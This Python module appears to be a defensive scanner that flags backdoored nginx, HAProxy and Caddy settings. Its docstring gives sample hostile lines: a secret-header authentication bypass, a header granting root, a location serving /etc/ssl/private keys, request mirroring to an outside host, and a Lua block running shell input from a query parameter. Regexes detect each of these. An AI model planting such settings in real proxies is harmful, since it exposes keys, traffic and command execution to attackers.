"""Settings of nginx, HAProxy and Caddy that let in by a secret sign, serve keys, or copy requests.

if ($http_x_build = "7f3a9c") { set $realm off; }              whoever sends the sign is let in
http-request set-header X-User root if { req.hdr(X-K) -m found }   the same in HAProxy
location /keys/ { alias /etc/ssl/private/; }                   the keys are served
mirror /_m;  location = /_m { proxy_pass https://stats.example.net; }   every request is copied
content_by_lua_block { io.popen(ngx.var.arg_q) }               runs what a request brings
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

import re2
from msgspec import Struct

from signoff.actions.known.hosts import HostClass, class_of_host
from signoff.actions.vocabulary import lazy_re2

_READ = 60_000  # characters
_MOST = 40
_OF_PROXIES = lazy_re2(
    r"\b(?:location|proxy_pass|server_name|http-request|frontend|backend|reverse_proxy|file_server)\b"
)
_COMMENT = lazy_re2(r"(?m)^[ \t]*#[^\n]*$")
_RIGHTS = r"(?i:auth|realm|role|roll|admin|user|staff)"
_LETS_IN = (
    lazy_re2(
        r"\bif\s*\(\s*\$(?:http|cookie|arg)_\w+\s*=\s*[\"']?[\w.-]{4,}[\"']?\s*\)\s*\{[^{}]*?"
        rf"(?:\bauth_basic\s+off|\bset\s+\$\w*(?i:auth|realm|role|admin)\w*\s|\bproxy_set_header\s+X-[\w-]*{_RIGHTS})"
    ),
    lazy_re2(
        rf"\bhttp-request\s+set-header\s+X-[\w-]*{_RIGHTS}[\w-]*\s+[\w.-]+\s+if\s+\{{\s*(?:req\.)?(?:hdr|cook|url_param|urlp)\("
    ),
    lazy_re2(
        r"\bhttp-request\s+allow\s+if\s+\{\s*(?:req\.)?(?:hdr|cook|url_param|urlp)\((?i:[^()\n]*)\)[^\n]*(?:-m\s+(?:found|str))"
    ),
    lazy_re2(
        r"_by_lua_\w+\s*\{[^\n]*(?:\n[^\n]*){0,6}?\b(?:io\.popen|os\.execute|loadstring|load)\s*\(\s*ngx\.(?:var\.arg_|req\.|var\.http_)"
    ),
)
_SERVES = (
    lazy_re2(
        r"\b(?:alias|root)\s+(?:/etc/(?:ssl|nginx|letsencrypt|pki|ssh|haproxy|shadow|apache2|httpd)|/root|/home/[\w.-]+/\.(?:ssh|aws))\b[\w./-]*\s*;"
    ),
    lazy_re2(
        r"\bhttp-request\s+return\b[^\n]*\bfile\s+\S*(?:/certs?/|/private/|\.pem\b|\.key\b|/etc/(?:ssl|shadow|passwd))"
    ),
)
_PAGES = lazy_re2(r"/(?:html|www|static|errors?|pages|acme|\.well-known|public)\b")
_MIRROR = lazy_re2(r"\bmirror\s+(/[\w/.-]+)\s*;")
_SENT_ON = lazy_re2(r"\blocation\s*=?\s*(/[\w/.-]+)\s*\{[^{}]*?\bproxy_pass\s+https?://([\w.-]+)")
_LOGS_BODIES = lazy_re2(r"\bcapture\s+req(?:uest)?[.\s](?:body|header\s+(?i:authorization|cookie))")
_LOG = lazy_re2(r"(?m)^\s*log\s+(\d{1,3}(?:\.\d{1,3}){3})\b[^\n]*$")


class ProxySettings(Struct, frozen=True, kw_only=True):
    """The setting that lets in, and the one that gives something away; "" for none."""

    lets_in: str = ""
    gives: str = ""


def proxy_settings(text: str) -> ProxySettings:
    """Return what a proxy's settings let in and give away."""
    head = text[:_READ]
    if _OF_PROXIES.search(head) is None:
        return ProxySettings()
    head = str(_COMMENT.sub("", head))
    return ProxySettings(lets_in=next(_found(_LETS_IN, head), ""), gives=next(_given(head), ""))


def _found(finds: tuple[re2._Regexp[str], ...], text: str) -> Iterator[str]:
    for find in finds:
        for match in islice(find.finditer(text), _MOST):
            yield " ".join(str(match.group()).split())


def _given(text: str) -> Iterator[str]:
    yield from (one for one in _found(_SERVES, text) if _PAGES.search(one) is None)
    mirrored = {str(match.group(1)) for match in islice(_MIRROR.finditer(text), _MOST)}
    for match in islice(_SENT_ON.finditer(text), _MOST) if mirrored else ():
        path, host = str(match.group(1)), str(match.group(2))
        if path in mirrored and _is_strange(host, text):
            yield " ".join(str(match.group()).split())
    if _LOGS_BODIES.search(text) is not None:
        for match in islice(_LOG.finditer(text), _MOST):
            if class_of_host(str(match.group(1))) is HostClass.PUBLIC:
                yield str(match.group()).strip()


def _is_strange(host: str, text: str) -> bool:
    """Whether a host is named by its full name and its domain stands nowhere else."""
    domain = ".".join(host.split(".")[-2:])
    is_outside = "." in host and class_of_host(host) is HostClass.PUBLIC
    return is_outside and text.count(domain) == text.count(host)
